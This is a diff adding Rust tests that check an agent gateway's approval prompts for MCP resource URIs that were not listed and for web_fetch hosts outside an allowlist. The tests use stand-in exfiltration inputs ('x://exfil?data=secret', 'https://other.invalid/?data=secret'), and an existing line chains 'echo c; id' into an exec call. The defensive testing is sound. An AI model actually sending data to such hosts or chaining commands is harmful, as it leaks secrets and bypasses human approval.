@@ -7,7 +7,7 @@ use serde_json::{Value, json};
 
 use tokio::time::timeout;
 
-use crate::support::{KEY, LONG, Place, Someone, config, entry_with, text};
+use crate::support::{KEY, LONG, Place, Someone, config, entry, entry_with, text};
 
 const CALL: &str = "/call mcp_x_add {\"a\":2,\"b\":3}";
 
@@ -322,5 +322,59 @@ async fn always_for_a_command_covers_no_other_command_and_no_other_agent() {
     assert_eq!(person.end_of("r6").await["state"], "final");
     person.send("agent:night:one", "r7", "/call exec {\"command\":\"echo c; id\"}").await;
     person.hear_of("approval.requested").await;
+    gateway.stop(Duration::ZERO).await;
+}
+
+#[tokio::test]
+async fn an_address_that_was_not_listed_is_asked_about_each_time() {
+    // The entry says `never`.
+    let place = Place::new(&config(&json!({ "x": entry(&Script::new()) })));
+    let gateway = place.start().await;
+    let mut person = Someone::new(&gateway);
+    let invented = "/call mcp_resources {\"server\":\"x\",\"uri\":\"x://exfil?data=secret\"}";
+    person.send(KEY, "r1", invented).await;
+    let asked = person.hear_of("approval.requested").await;
+    assert_eq!(asked["args"], json!({ "server": "x", "uri": "x://exfil?data=secret" }));
+    assert!(asked["title"].as_str().unwrap().contains("not listed this address"), "{asked}");
+    assert_eq!(asked["allowedDecisions"], json!(["allow-once", "deny"]));
+    let answer = json!({ "id": asked["id"], "decision": "deny" });
+    person.ask("approvals.respond", answer).await.unwrap();
+    assert_eq!(person.end_of("r1").await["state"], "final");
+    let listed = person.ask("mcp.resources", json!({ "server": "x" })).await.unwrap();
+    let uri = &listed["resources"][0]["uri"];
+    let call = format!("/call mcp_resources {}", json!({ "server": "x", "uri": uri }));
+    person.send(KEY, "r2", &call).await;
+    assert_eq!(person.end_of("r2").await["state"], "final", "a listed one is not asked about");
+    // A caller that may not approve cannot read it either.
+    let writer = Someone::with(&gateway, &["read", "write"]);
+    let params = json!({ "server": "x", "uri": "x://exfil?data=secret" });
+    let error = writer.ask("mcp.read", params).await.unwrap_err();
+    assert!(error.message.contains("operator.approvals"), "{error}");
+    gateway.stop(Duration::ZERO).await;
+}
+
+#[tokio::test]
+async fn a_web_host_is_asked_about_unless_it_is_allowed() {
+    // A name that never resolves (RFC 6761).
+    let mut config = config(&json!({}));
+    config["tools"]["web"]["fetch"]["allowHosts"] = json!(["*.allowed.invalid"]);
+    let place = Place::new(&config);
+    let gateway = place.start().await;
+    let mut person = Someone::new(&gateway);
+    let fetch = |host: &str| format!("/call web_fetch {{\"url\":\"https://{host}/?data=secret\"}}");
+    person.send(KEY, "r1", &fetch("other.invalid")).await;
+    let asked = person.hear_of("approval.requested").await;
+    let words = "allow `web_fetch` from other.invalid in this session for agent main";
+    assert_eq!(asked["always"], json!([{ "words": words }]));
+    let answer = json!({ "id": asked["id"], "decision": "deny" });
+    person.ask("approvals.respond", answer).await.unwrap();
+    assert_eq!(person.end_of("r1").await["state"], "final");
+    person.send(KEY, "r2", &fetch("www.allowed.invalid")).await;
+    assert_eq!(person.end_of("r2").await["state"], "final", "it is not asked about");
+    drop(person);
+    let mut unattended = Someone::with(&gateway, &["read", "write"]);
+    unattended.send(KEY, "r3", &fetch("other.invalid")).await;
+    assert_eq!(unattended.end_of("r3").await["state"], "final");
+    assert!(result(&unattended).await.contains("no user answered"));
     gateway.stop(Duration::ZERO).await;
 }
